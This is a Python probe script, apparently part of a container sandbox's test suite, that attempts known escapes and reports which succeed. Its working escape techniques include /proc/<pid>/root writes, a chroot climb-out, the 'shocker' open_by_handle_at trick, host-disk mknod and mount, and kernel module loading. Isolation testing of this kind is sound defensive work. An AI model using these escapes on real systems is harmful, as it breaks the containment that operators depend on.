"""Escape attempts, run as root inside a dev-mode container (or the old chroot layout).

`python3 container_probe.py JSON` with {"action": [args...]}; prints one JSON line
{"action": {"ok": bool, "detail": str}}, `ok` meaning the door was open. Each attempt runs
in a child of its own (a chroot escape changes the process's root). Standard library
only: the image's Python runs it.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
SYS_FINIT_MODULE = 313
SYS_NAME_TO_HANDLE_AT = 303
SYS_OPEN_BY_HANDLE_AT = 304
EXT4_SUPER_MAGIC_OFFSET = 1024 + 0x38


def proc_root_write(marker_dir):
    """Write into the host through another process's /proc/<pid>/root."""
    written = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            path = f"/proc/{entry}/root{marker_dir}/escaped-via-{entry}"
            try:
                with open(path, "w") as file:
                    file.write("escaped")
                written.append(entry)
            except OSError:
                pass
    return (
        bool(written),
        f"written through /proc/{{{','.join(written[:5])}}}/root"
        if written
        else "no /proc/<pid>/root reached it",
    )


def dev_shm(name):
    """Write a file in /dev/shm: the host looks for it in its own."""
    with open(f"/dev/shm/{name}", "w") as file:
        file.write("escaped")
    return None, "written: the host looks for it in its own /dev/shm"


def kill(pid):
    try:
        os.kill(int(pid), signal.SIGTERM)
    except OSError as error:
        return False, error.strerror
    return True, f"SIGTERM sent to {pid}"


def connect(host, port):
    try:
        with socket.create_connection((host, int(port)), timeout=3) as connection:
            connection.settimeout(3)
            return True, connection.recv(64).decode(errors="replace")
    except OSError as error:
        return False, str(error)


def read_file(path):
    try:
        with open(path, "rb") as file:
            return True, f"{len(file.read())} bytes"
    except OSError as error:
        return False, error.strerror


def chroot_escape(marker):
    """The classic: chroot into a subdirectory, climb out with '..' from outside it."""
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists(
        marker
    ), f"{marker} {'seen' if os.path.exists(marker) else 'not seen'} after the climb"


def module_load():
    fd = os.open("/dev/null", os.O_RDONLY)
    result = libc.syscall(SYS_FINIT_MODULE, fd, b"", 0)
    error = ctypes.get_errno()
    if result == 0:
        return True, "a module was loaded"
    if error == errno.ENOSYS:
        return None, "this kernel has no module support"
    return error != errno.EPERM, os.strerror(error)


def capabilities():
    """The effective capability set, as /proc/self/status shows it (hex)."""
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("CapEff:"):
                return True, line.split()[1]
    return False, "?"


def mknod_device(major, minor):
    """Make a device node for the host's disk (reading it is this machine's own policy)."""
    try:
        os.mknod("/hostdisk", 0o600 | 0o060000, os.makedev(int(major), int(minor)))  # not /tmp: nodev
    except OSError as error:
        return False, f"mknod: {error.strerror}"
    return True, "made"


def mount_device(major, minor):
    """Mount the host's disk (read-only) from a node made for it."""
    path, target = "/hostdisk2", "/tmp/hostmount"
    os.makedirs(target, exist_ok=True)
    try:
        os.mknod(path, 0o600 | 0o060000, os.makedev(int(major), int(minor)))
    except OSError as error:
        return False, f"mknod: {error.strerror}"
    result = libc.mount(path.encode(), target.encode(), b"ext4", 1, None)  # MS_RDONLY
    error = ctypes.get_errno()
    if result == 0:
        return True, f"mounted: {sorted(os.listdir(target))[:5]}"
    # EBUSY: the kernel found the filesystem (it is mounted read-write on the host).
    return error == errno.EBUSY, f"mount: {os.strerror(error)}"


def file_handle(directory):
    """open_by_handle_at (the 'shocker' escape): the host's root directory through a handle
    on the filesystem of a bound directory (ext4: inode 2, generation 0)."""
    mount_fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
    buffer = ctypes.create_string_buffer(handle, len(handle))
    fd = libc.syscall(SYS_OPEN_BY_HANDLE_AT, mount_fd, buffer, os.O_RDONLY | os.O_DIRECTORY)
    if fd < 0:
        return False, os.strerror(ctypes.get_errno())
    return True, f"the filesystem's root: {sorted(os.listdir(f'/proc/self/fd/{fd}'))[:6]}"


def open_fds():
    """Descriptors past stdio that the probe did not open: a host directory's would be a way out."""
    listing = os.open("/proc/self/fd", os.O_RDONLY | os.O_DIRECTORY)
    extra = [fd for fd in os.listdir(f"/proc/self/fd/{listing}") if int(fd) > 2 and int(fd) != listing]
    extra = [
        f"{fd} -> {os.readlink(f'/proc/self/fd/{fd}')}"
        for fd in extra
        if os.path.exists(f"/proc/self/fd/{fd}")
    ]
    return bool(extra), ", ".join(extra) or "none"


def mount_tmpfs():
    """Allowed: a mount in the container's own namespace (the init mounts volumes)."""
    os.makedirs("/tmp/own", exist_ok=True)
    result = libc.mount(b"own", b"/tmp/own", b"tmpfs", 0, None)
    return result == 0, "mounted" if result == 0 else os.strerror(ctypes.get_errno())


ACTIONS = {
    "proc_root_write": proc_root_write,
    "dev_shm": dev_shm,
    "kill": kill,
    "connect": connect,
    "connect2": connect,
    "connect3": connect,
    "read_file": read_file,
    "chroot_escape": chroot_escape,
    "module_load": module_load,
    "capabilities": capabilities,
    "mknod_device": mknod_device,
    "mount_device": mount_device,
    "file_handle": file_handle,
    "mount_tmpfs": mount_tmpfs,
    "open_fds": open_fds,
}


def run_one(name, args):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        try:
            ok, detail = ACTIONS[name](*args)
        except Exception as error:  # noqa: BLE001 - reported, not raised
            ok, detail = False, f"{type(error).__name__}: {error}"
        os.write(write, json.dumps({"ok": ok, "detail": detail}).encode())
        os._exit(0)
    os.close(write)
    data = b""
    while chunk := os.read(read, 65536):
        data += chunk
    os.close(read)
    os.waitpid(pid, 0)
    return json.loads(data or b'{"ok": false, "detail": "the probe died"}')


def main():
    asked = json.loads(sys.argv[1])
    # First, in this process: what it was started with.
    results = (
        {"open_fds": dict(zip(("ok", "detail"), open_fds(), strict=True))} if "open_fds" in asked else {}
    )
    results.update({name: run_one(name, args) for name, args in asked.items() if name != "open_fds"})
    print("PROBE " + json.dumps(results), flush=True)


if __name__ == "__main__":
    main()
